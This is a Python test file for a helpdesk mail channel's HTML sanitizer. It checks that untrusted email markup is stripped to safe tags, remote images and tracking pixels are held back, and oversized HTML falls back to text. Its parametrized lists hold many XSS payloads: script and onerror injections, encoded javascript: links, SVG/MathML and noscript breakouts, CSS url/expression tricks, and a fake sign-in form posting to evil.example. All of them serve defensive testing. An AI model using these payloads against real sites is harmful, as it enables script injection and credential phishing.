"""What of a stranger's HTML reaches the ticket, and what does not."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from helpdesk_mailchannel.mailcore.compose.html.safe_html import inline_ids, with_inline_urls
from helpdesk_mailchannel.mailcore.settings import Limits
from tests.core.compose.build import picture, shown


@pytest.mark.parametrize(
	"attack",
	[
		"<script>alert(1)</script>",
		"<img src=x onerror=alert(1)>",
		'<a href="javascript:alert(1)">x</a>',
		'<a href="&#106;avascript:alert(1)">x</a>',
		'<a href=" \tjava\nscript:alert(1)">x</a>',
		'<a href="data:text/html,<script>alert(1)</script>">x</a>',
		'<a href="vbscript:alert(1)">x</a>',
		"<svg><script>alert(1)</script></svg>",
		"<svg onload=alert(1)>",
		"<math><mtext><img src=x onerror=alert(1)></mtext></math>",
		'<base href="https://evil.example/">',
		'<meta http-equiv="refresh" content="0;url=https://evil.example">',
		'<link rel="stylesheet" href="https://evil.example/x.css">',
		"<style>body{background:url(https://evil.example/x)}</style>",
		'<p style="background:url(https://evil.example/x)">x</p>',
		'<p style="width:expression(alert(1))">x</p>',
		'<p style="position:fixed;top:0;left:0">x</p>',
		'<p style="color:red;background-image:url(javascript:alert(1))">x</p>',
		'<form action="https://evil.example"><input name=p><button>Sign in</button></form>',
		'<iframe src="https://evil.example"></iframe>',
		'<object data="x.swf"></object><embed src="x.swf">',
		'<video src="https://evil.example/x" poster="https://evil.example/y"></video>',
		'<table background="https://evil.example/x"><tr><td background="https://evil.example/y">x</td></tr></table>',
		'<img srcset="https://evil.example/x 2x">',
		'<div id="page-container" class="modal">x</div>',
		'<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
		"<textarea><img src=x onerror=alert(1)></textarea>",
		"<!--[if mso]><script>alert(1)</script><![endif]-->",
		'<p data-src="x" contenteditable autofocus onfocus=alert(1)>x</p>',
	],
)
def test_nothing_dangerous_survives(attack):
	made = shown(f"<p>Hello</p>{attack}").html
	assert made.startswith("<p>Hello</p>")
	assert_harmless(made)


def assert_harmless(html: str) -> None:
	"""No element or attribute that runs, loads or covers anything."""
	for tag, attributes in re.findall(r"<([a-z][^\s>/]*)((?:\s[^<>]*)?)>", html):
		assert tag in SHOWN, f"<{tag}> in {html}"
		for name, value in re.findall(r"\s([^\s=]+)=\"([^\"]*)\"", attributes):
			assert name in ATTRIBUTES, f"{name} in {html}"
			assert name != "src" or value.startswith("cid:"), html
			assert name != "href" or re.match(r"\s*(https?://|mailto:)", value, re.I), html
			assert name != "style" or re.fullmatch(r"([a-z-]+:[#\w(), -]+;?)+", value), html
			assert name != "style" or "url" not in value, html


SHOWN = frozenset(
	"a abbr acronym address article aside b big blockquote br caption center cite code col colgroup dd del"
	" details dfn div dl dt em figcaption figure font footer h1 h2 h3 h4 h5 h6 header hr i img ins kbd li nav"
	" ol p pre q s samp section small span strike strong sub sup table tbody td tfoot th thead tr tt u ul"
	" var".split()
)
ATTRIBUTES = frozenset(
	"class dir style href src alt title width height align valign colspan rowspan border cellpadding"
	" cellspacing span start type value target rel data-src data-width data-height".split()
)

HOSTILE = st.sampled_from(
	[
		"<script>",
		"</script>",
		"<svg>",
		"</svg>",
		"<math>",
		"<style>",
		"</style>",
		"<p style='",
		"color:red;",
		"background:url(x)",
		"'>",
		'"',
		"<img src=",
		"<a href='",
		"javascript:alert(1)",
		"data:text/html,x",
		"cid:p@x",
		"https://t.example/x.png",
		" onerror=alert(1)",
		" onclick='x'",
		">",
		"<!--",
		"-->",
		"<![CDATA[",
		"]]>",
		"<textarea>",
		"<title>",
		"<noscript>",
		"<template>",
		"<form action=x>",
		"<div class='mail-remote-image gmail_quote' data-src='javascript:1'>",
		"<details class=mail-history open ontoggle=alert(1)>",
		"</details>",
		"</div>",
		"&lt;script&gt;",
		"&#60;img src=x onerror=1&#62;",
		"<blockquote type=cite>",
		"\x00",
		"words ",
		"<table><td>",
		"<mtext><mglyph>",
		"<annotation-xml encoding='text/html'>",
	]
)


@given(st.lists(HOSTILE, max_size=30).map("".join))
def test_whatever_is_sent_nothing_dangerous_survives(html):
	assert_harmless(shown(html, files=(picture("p@x"),)).html)


@given(st.lists(HOSTILE, max_size=30).map("".join))
def test_whatever_is_sent_as_text_is_only_text(text):
	assert_harmless(shown(text=text).html)


def test_a_programs_code_is_removed_with_its_words():
	made = shown(
		"<html><head><title>Title</title><style>p{color:red}</style></head><body>"
		"<!--[if mso]>office<![endif]--><script>var x</script><p>Words</p></body></html>"
	)
	assert made.text == "Words"
	assert made.html == "<p>Words</p>"


def test_what_makes_mail_readable_stays():
	html = (
		'<table border="1" cellpadding="4" width="100%"><tbody><tr><td align="right" colspan="2"><b>Sum</b>'
		'</td></tr></tbody></table><ol start="3"><li>three</li></ol><p style="text-align:center">mid</p>'
	)
	assert shown(html).html == html


def test_links_open_elsewhere_and_tell_nothing():
	assert shown('<a href="https://x.example/a?b=1&amp;c=2">x</a>').html == (
		'<a href="https://x.example/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer">x</a>'
	)


@pytest.mark.parametrize(
	"style, stays",
	[
		("color:#ff0000", "color:#ff0000"),
		("color: RED !important", "color:red"),
		("color:black", ""),
		("color:#1F497D", ""),
		("color:#fff", ""),
		("background-color:yellow", ""),
		("font-weight:bold;font-size:40px", "font-weight:bold"),
		("text-decoration:line-through", "text-decoration:line-through"),
		("white-space:pre-wrap", "white-space:pre-wrap"),
	],
)
def test_only_styles_that_say_something_stay(style, stays):
	wanted = f'<span style="{stays}">x</span>' if stays else "<span>x</span>"
	assert shown(f'<span style="{style}">x</span>').html == wanted


def test_a_newsletters_hidden_preview_line_is_left_out():
	assert shown('<div style="display:none">Preview</div><p>Words</p>').html == "<p>Words</p>"


def test_a_mail_that_hides_everything_is_shown_all_the_same():
	assert shown('<div style="display: none">Words</div>').text == "Words"


def test_a_remote_image_is_held_back_and_can_be_opened():
	made = shown(
		'<p><img src="https://cdn.example/a.png?x=1&amp;y=2" alt="Logo" width="80" height="40"></p>'
	).html
	assert "<img" not in made
	assert 'class="mail-remote-image"' in made
	assert 'href="https://cdn.example/a.png?x=1&amp;y=2"' in made
	assert 'data-src="https://cdn.example/a.png?x=1&amp;y=2"' in made
	assert 'data-width="80" data-height="40"' in made
	assert ">[Image: Logo]</a>" in made


def test_a_linked_remote_image_keeps_its_link():
	made = shown('<a href="https://shop.example/"><img src="https://cdn.example/a.png" alt="Sale"></a>').html
	assert made.startswith('<a href="https://shop.example/"')
	assert '<span class="mail-remote-image" data-src="https://cdn.example/a.png"' in made


@pytest.mark.parametrize("size", ['width="1" height="1"', 'width="0"', 'height="1px"'])
def test_a_tracking_pixel_is_left_out(size):
	assert shown(f'<p>Words<img src="https://t.example/o.gif" {size}></p>').html == "<p>Words</p>"


def test_a_senders_imitation_of_our_marks_is_stripped():
	made = shown(
		'<p>x</p><div class="mail-remote-image mail-notice" data-src="https://evil.example">y</div>'
	).html
	assert made == "<p>x</p><div>y</div>"


def test_an_inline_picture_is_found_whatever_the_case_of_its_id():
	made = shown('<img src="CID:Pic@X" alt="shot">', files=(picture("pic@x"),)).html
	assert '<img src="cid:pic@x" alt="shot">' in made
	assert inline_ids(made) == {"pic@x"}


def test_an_inline_picture_gets_the_address_of_its_stored_file():
	made = shown(
		'<img src="cid:a&amp;b@x"><img src="cid:c@x">', files=(picture("a&b@x"), picture("c@x"))
	).html
	swapped = with_inline_urls(made, {"a&b@x": "/private/files/a%20b.png"})
	assert 'src="/private/files/a%20b.png"' in swapped
	assert 'src="cid:c@x"' in swapped


def test_an_inline_picture_without_a_file_says_so():
	assert "[Image missing: shot]" in shown('<p>x <img src="cid:gone@x" alt="shot"></p>').html


def test_a_page_that_calls_itself_a_picture_is_not_shown_as_one():
	fake = picture("p@x")
	fake = type(fake)(fake.name, fake.content_type, b"<html><script>1</script>", fake.disposition, "p@x")
	made = shown('<p>x <img src="cid:p@x"></p>', files=(fake,))
	assert "<img" not in made.html
	assert made.files[0].content_type == "application/octet-stream"


@pytest.mark.parametrize(
	"html",
	["<div>" * 500, "<p>x</p>" * 20_000, "<p>" + "<font size=1><b>" * 90 + "<p>x" * 9_000, "x" * 3_000_000],
	ids=["nested", "many", "unclosed", "long"],
)
def test_html_that_is_too_heavy_is_shown_as_text(html):
	made = shown(html, text="The words.")
	assert "The words." in made.html
	assert "too heavy" in made.html


def test_heavy_html_without_a_text_part_still_gives_its_words():
	made = shown("<style>p{}</style>" + "<div>" * 500 + "The &amp; words")
	assert made.text == "The & words"


def test_limits_are_the_channels():
	assert "too heavy" in shown("<p>a</p><p>b</p>", limits=Limits(html_tags=3)).html
